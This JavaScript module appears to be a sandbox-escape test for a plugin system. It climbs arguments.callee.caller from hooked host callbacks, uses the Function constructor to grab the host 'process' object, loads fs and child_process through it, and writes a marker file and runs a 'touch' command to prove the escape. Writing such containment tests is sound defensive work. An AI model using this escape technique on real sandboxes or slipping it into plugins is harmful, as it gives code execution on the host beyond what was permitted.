// Escape attempt: arguments.callee.caller: a sloppy sandbox function called by the host walks up to the host caller.
// Each attempt hands whatever it reached to pwn(); pwn writes the marker file only if it holds the host process.
function pwn(p, marker, notes, label) {
  try {
    if (!p || (typeof p !== "object" && typeof p !== "function")) { notes.push(label + ": nothing"); return false; }
    const get = typeof p.getBuiltinModule === "function" ? (n) => p.getBuiltinModule(n) : p.mainModule ? (n) => p.mainModule.require(n) : null;
    if (!get) { notes.push(label + ": no process"); return false; }
    get("fs").writeFileSync(marker, "escaped via " + label);
    try { get("child_process").execSync("touch " + marker + ".cp"); } catch (e) {}
    notes.push(label + ": ESCAPED");
    return true;
  } catch (e) { notes.push(label + ": " + String(e && e.message)); return false; }
}
function attempt(notes, label, fn) {
  try { fn(); } catch (e) { notes.push(label + " threw: " + String(e && e.message).slice(0, 80)); }
}

module.exports = {
  name: 'escape-callee-caller',
  description: 'sandbox escape attempt: callee-caller',
  risk: 'inspect',
  phrases: [],
  params: { marker: { type: 'string' } },
  applies_to: [],
  async run(ctx, params) {
    const marker = params.marker;
    const notes = [];

    function probe() { let f = arguments.callee.caller; let depth = 0; while (f && depth++ < 20) { attempt(notes, "caller", () => pwn(f.constructor("return process")(), marker, notes, "caller depth " + depth)); f = f.caller; } }
    const origDeliver = globalThis.__deliver;
    globalThis.__deliver = function (text) { probe(); return origDeliver(text); };
    await ctx.services();
    attempt(notes, "send caller", () => __send({ toString: function () { probe(); return ""; } }));
    globalThis.__deliver = origDeliver;
    return { summary: notes.join(' | '), data: notes };
  },
};
